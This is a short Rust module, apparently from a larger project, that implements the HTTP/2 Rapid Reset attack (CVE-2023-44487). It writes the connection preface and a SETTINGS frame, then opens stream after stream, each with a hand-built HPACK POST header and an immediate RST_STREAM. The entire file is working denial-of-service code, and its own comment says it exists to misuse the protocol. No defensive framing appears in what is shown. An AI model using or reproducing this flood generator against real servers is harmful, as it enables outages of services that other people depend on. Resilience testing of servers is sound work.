//! As much of HTTP/2 (RFC 9113) as it takes to misuse it: streams that are opened and reset at once (CVE-2023-44487).

use std::io::Write;

use super::wire::write;

const SETTINGS: u8 = 4;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const END_HEADERS: u8 = 4;

/// Opens so many streams, one after the other, and resets each in the same breath. The server may end the connection before.
pub(super) fn rapid_reset(stream: &mut impl Write, streams: u32) {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    // HPACK (RFC 7541): `:method: POST`, `:scheme: https` from the static table, `:path` and `:authority` as literals.
    let head = [&[0x83, 0x87, 0x04, 7][..], b"/mutate", &[0x01, 1], b"x"].concat();
    for index in 0..streams {
        let id = 2 * index + 1;
        frame(&mut bytes, HEADERS, END_HEADERS, id, &head);
        frame(&mut bytes, RST_STREAM, 0, id, &8_u32.to_be_bytes());
    }
    write(stream, &bytes);
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    bytes.extend(&length[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}
